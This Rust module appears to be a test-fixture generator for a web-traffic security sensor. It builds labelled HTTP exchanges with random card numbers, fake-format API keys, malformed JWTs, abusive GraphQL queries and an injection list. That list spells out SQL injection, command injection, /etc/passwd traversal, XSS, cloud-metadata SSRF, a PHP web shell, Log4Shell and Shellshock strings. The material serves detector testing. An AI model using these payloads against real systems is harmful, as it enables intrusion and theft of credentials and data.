//! Exchanges with one finding or none. No value is anybody's: numbers have right check digits and are otherwise random.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use sensor::inspect::Kind;

/// An exchange.
pub(crate) struct Case {
    pub(crate) request: String,
    pub(crate) response: String,
    /// Whether the kind that is measured should be found.
    pub(crate) is_meant: bool,
    /// The server is known to check the request's credentials, and accepted them.
    pub(crate) is_accepted: bool,
}

/// The same numbers each time.
struct Random(u64);

impl Random {
    fn below(&mut self, most: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap_or(0) % most
    }

    fn of<'w>(&mut self, items: &[&'w str]) -> &'w str {
        items.get(self.below(items.len())).copied().unwrap_or_default()
    }

    fn text(&mut self, alphabet: &str, length: usize) -> String {
        (0..length).filter_map(|_| alphabet.chars().nth(self.below(alphabet.len()))).collect()
    }
}

const DIGITS: &str = "0123456789";
const HEX: &str = "0123456789abcdef";
const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const LETTERS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

/// For each kind its name and cases, `each` with it and as many without, where numbers can be made.
pub(crate) fn all(each: usize) -> Vec<(&'static str, Kind, Vec<Case>)> {
    let mut random = Random(19);
    vec![
        ("cards, IBANs, password hashes in responses", Kind::DataExposure, data(&mut random, each)),
        ("keys in URLs and responses", Kind::KeyExposure, keys(&mut random, each)),
        ("misused tokens", Kind::TokenMisuse, tokens()),
        ("costly GraphQL documents", Kind::Graphql, documents()),
        ("injection, one of each class", Kind::Injection, injections()),
    ]
}

fn get(target: &str, headers: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: shop.example\r\nX-Forwarded-Proto: https\r\n{headers}\r\n")
}

fn answer(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn case(is_meant: bool, request: String, body: &str) -> Case {
    Case { request, response: answer(body), is_meant, is_accepted: false }
}

/// The sum of Luhn of digits, 0 for a right one.
fn luhn(text: &str) -> u32 {
    let digits = text.bytes().rev().map(|byte| u32::from(byte.wrapping_sub(b'0')));
    digits
        .enumerate()
        .map(|(at, digit)| if at % 2 == 0 { digit } else { digit * 2 / 10 + digit * 2 % 10 })
        .sum::<u32>()
        % 10
}

fn card(random: &mut Random, is_right: bool) -> String {
    loop {
        let start = random.of(&["4", "51", "55", "2300", "6011", "65"]);
        let text = format!("{start}{}", random.text(DIGITS, 16 - start.len()));
        if (luhn(&text) == 0) == is_right {
            return text;
        }
    }
}

fn iban(random: &mut Random) -> String {
    let (country, length) = if random.below(2) == 0 { ("DE", 18) } else { ("FR", 23) };
    let body = random.text(DIGITS, length);
    let rest = format!("{body}{country}00").bytes().fold(0_u32, |sum, byte| match byte {
        b'0'..=b'9' => (sum * 10 + u32::from(byte - b'0')) % 97,
        _ => (sum * 100 + u32::from(byte.wrapping_sub(b'A')) + 10) % 97,
    });
    format!("{country}{:02}{body}", 98 - rest)
}

fn data(random: &mut Random, each: usize) -> Vec<Case> {
    let mut cases = Vec::new();
    for _ in 0..each {
        let body = match random.below(3) {
            0 => format!("{{\"id\":7,\"card\":\"{}\"}}", card(random, true)),
            1 => format!("{{\"account\":{{\"iban\":\"{}\"}}}}", iban(random)),
            _ => format!("{{\"user\":\"a\",\"password_hash\":\"$2b$12${}\"}}", random.text(LETTERS, 53)),
        };
        cases.push(case(true, get("/things/1", ""), &body));
        let body = match random.below(5) {
            0 => format!("{{\"id\":7,\"order\":\"{}\"}}", card(random, false)),
            1 => format!("{{\"sha256\":\"{}\"}}", random.text(HEX, 64)),
            2 => format!(
                "{{\"uuid\":\"{}-{}-4{}-8{}-{}\"}}",
                random.text(HEX, 8),
                random.text(HEX, 4),
                random.text(HEX, 3),
                random.text(HEX, 3),
                random.text(HEX, 12)
            ),
            3 => format!(
                "{{\"created\":17{},\"tracking\":\"{}\"}}",
                random.text(DIGITS, 11),
                random.text(DIGITS, 12)
            ),
            _ => format!(
                "{{\"phone\":\"+49 30 {}\",\"etag\":\"{}\"}}",
                random.text(DIGITS, 8),
                random.text(HEX, 32)
            ),
        };
        cases.push(case(false, get("/things/1", ""), &body));
    }
    cases
}

fn key(random: &mut Random) -> String {
    match random.below(5) {
        0 => format!("AKIA{}", random.text(UPPER, 16)),
        1 => format!("sk_live_{}", random.text(LETTERS, 24)),
        2 => format!("glpat-{}", random.text(LETTERS, 20)),
        3 => format!("shpat_{}", random.text(HEX, 32)),
        _ => format!("xoxb-{}-{}", random.text(DIGITS, 12), random.text(LETTERS, 24)),
    }
}

fn keys(random: &mut Random, each: usize) -> Vec<Case> {
    let mut cases = Vec::new();
    for _ in 0..each {
        let key = key(random);
        cases.push(match random.below(3) {
            0 => case(true, get(&format!("/things?x={key}"), ""), "{}"),
            1 => case(true, get("/things", &format!("Referer: https://other.example/a?x={key}\r\n")), "{}"),
            _ => case(true, get("/config", ""), &format!("{{\"settings\":{{\"value\":\"{key}\"}}}}")),
        });
        let harmless = match random.below(4) {
            0 => format!("pk_live_{}", random.text(LETTERS, 24)),
            1 => format!("AIza{}", random.text(LETTERS, 35)),
            2 => random.text(HEX, 40),
            _ => random.text(LETTERS, 22),
        };
        cases.push(match random.below(2) {
            0 => case(false, get(&format!("/things?page={harmless}"), ""), "{}"),
            _ => case(false, get("/config", ""), &format!("{{\"settings\":{{\"value\":\"{harmless}\"}}}}")),
        });
    }
    cases
}

fn token(header: &str, claims: &str, signature: &str) -> String {
    format!("{}.{}.{signature}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims))
}

/// Misuses of RFC 8725, and forms of RFC 7515, 7519 and 9068.
fn tokens() -> Vec<Case> {
    let good = r#"{"iss":"a","iat":1790000000,"exp":1790003600}"#;
    let signed = "c2lnbmF0dXJlLXNpZ25hdHVyZQ";
    let bearer = |is_meant, is_accepted, token: String| Case {
        is_accepted,
        ..case(is_meant, get("/things", &format!("Authorization: Bearer {token}\r\n")), "{}")
    };
    let mut cases = Vec::new();
    for header in [
        r#"{"alg":"none"}"#,
        r#"{"alg":"nOnE","typ":"JWT"}"#,
        r#"{"alg":"HS256","kid":"../../dev/null"}"#,
        r#"{"alg":"HS256","kid":"x' UNION SELECT 'k"}"#,
        r#"{"alg":"RS256","jwk":{"kty":"RSA","n":"a","e":"AQAB"}}"#,
        r#"{"alg":"RS256","jku":"https://other.example/jwks.json"}"#,
    ] {
        cases.push(bearer(true, false, token(header, good, signed)));
    }
    let plain = r#"{"alg":"RS256"}"#;
    cases.push(bearer(true, false, token(plain, good, "")));
    for (is_accepted, claims) in [
        (true, r#"{"iss":"a","iat":1789990000,"exp":1789999000}"#),
        (true, r#"{"iss":"a","iat":1780000000}"#),
        (false, r#"{"iss":"a","iat":1790000000,"exp":1799000000}"#),
        (false, r#"{"iss":"a","client_secret":"abcdefgh"}"#),
    ] {
        cases.push(bearer(true, is_accepted, token(plain, claims, signed)));
    }
    for header in [
        plain,
        r#"{"typ":"JWT","alg":"HS256"}"#,
        r#"{"alg":"ES256","kid":"e9bc097a-ce51-4036-9562-d2ade882db0d"}"#,
        r#"{"typ":"at+jwt","alg":"RS256","kid":"RjEwOwOA"}"#,
        r#"{"typ":"dpop+jwt","alg":"ES256","jwk":{"kty":"EC","crv":"P-256","x":"a","y":"b"}}"#,
        r#"{"alg":"EdDSA","kid":"a/b+c=="}"#,
        r#"{"alg":"RS256","kid":"https://issuer.example/keys/1"}"#,
    ] {
        cases.push(bearer(false, true, token(header, good, signed)));
    }
    cases
}

fn post(body: &str) -> String {
    format!(
        "POST /graphql HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// Only what is wrong by itself is a finding; how costly a document may be, a route's detector learns.
fn documents() -> Vec<Case> {
    let hint = r#"{"errors":[{"message":"Cannot query field \"a\". Did you mean \"b\"?"}]}"#;
    vec![
        case(true, post(r#"{"query":"{...A}fragment A on B{...A}"}"#), "{}"),
        case(true, post(r#"{"query":"{...A}fragment A on B{...C}fragment C on B{...A}"}"#), "{}"),
        case(true, post(r#"{"query":"{a}"}"#), hint),
        case(false, post(r#"{"query":"{a{b{c}}}"}"#), "{}"),
        case(false, post(r#"{"query":"query($n:Int){a(first:$n){b}}","variables":{"n":10}}"#), "{}"),
        case(false, post(r#"{"query":"{...A ...A}fragment A on B{c}"}"#), "{}"),
        case(false, post(r#"{"query":"shoes {red}"}"#), "{}"),
        case(false, post(r#"{"query":{"match_all":{}}}"#), "{}"),
    ]
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(
            |byte| {
                if byte.is_ascii_alphanumeric() {
                    char::from(byte).to_string()
                } else {
                    format!("%{byte:02X}")
                }
            },
        )
        .collect()
}

fn injections() -> Vec<Case> {
    let attacks = [
        "1' UNION SELECT name, password FROM users--",
        "x' or '1'='1",
        "1;waitfor delay '0:0:5'",
        "{\"$where\":\"this.a==1\"}",
        "8.8.8.8; cat /etc/hostname",
        "$(id)",
        "../../../../etc/passwd",
        "..%252f..%252fetc%252fpasswd",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "http://169.254.169.254/latest/meta-data/",
        "{{7*7}}",
        "<?php system($_GET['x']); ?>",
        "*)(uid=*))(|(uid=*",
        "x' or name()='username' or 'x'='y",
        "${jndi:ldap://h.example/a}",
        "() { :;}; /bin/id",
        "x\r\nSet-Cookie: a=b",
        "O:8:\"stdClass\":0:{}",
    ];
    let harmless = [
        "O'Brien and sons",
        "Please select the items from the list and update your order.",
        "Rock 'n' Roll & more; see page 4",
        "SELECT name, price FROM products WHERE id = 7 ORDER BY price",
        "<p>Hello <b>world</b>, see <a href=\"https://shop.example/\">here</a>.</p>",
        "# Heading\n\n* item one\n* item `two`\n\n> quote -- Author",
        "price:[10 TO 20] AND (brand:\"Acme\" OR brand:\"Other\")",
        "11\" tablet, 50% off! #sale",
        "fn main() {\n    let name = read();\n    println!(\"hello {name}, and welcome to the show\");\n}\n",
        "Tom &amp; Jerry; more",
        "2026-01-02T03:04:05.678+02:00",
        "C:\\Projects\\notes.txt was attached",
    ];
    let of =
        |is_meant| move |text: &&str| case(is_meant, get(&format!("/search?q={}", encoded(text)), ""), "{}");
    attacks.iter().map(of(true)).chain(harmless.iter().map(of(false))).collect()
}
